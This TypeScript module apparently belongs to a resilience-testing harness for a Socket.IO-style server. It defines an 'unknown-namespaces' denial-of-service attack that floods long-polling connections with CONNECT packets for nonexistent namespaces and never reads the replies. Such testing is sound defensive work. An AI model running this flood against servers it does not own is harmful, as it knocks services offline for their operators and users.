import { PollingConnection } from '../wire/polling-wire.ts';
import { ANONYMOUS, type Attack } from './attack.ts';

const CONCURRENCY = 4;
const POST_BYTES = 60_000;
const POSTS_PER_SESSION = 8;

/** Row 15: each is answered, and nobody comes for the answers. */
export const unknownNamespaces: Attack = {
  name: 'unknown-namespaces',
  does: 'CONNECTs to namespaces that do not exist, over connections that are never polled',
  shapes: ANONYMOUS,
  async run(context) {
    const one = '40/x,\x1e';
    const packets = one.repeat(Math.floor(POST_BYTES / one.length)).slice(0, -1);
    await context.begin();
    await context.repeatOnWires(CONCURRENCY, async (wire) => {
      const polling = await PollingConnection.open(wire);
      for (let i = 0; i < POSTS_PER_SESSION && !context.over; i++) {
        if ((await polling.post(packets)) !== 200) return;
      }
    });
  },
};
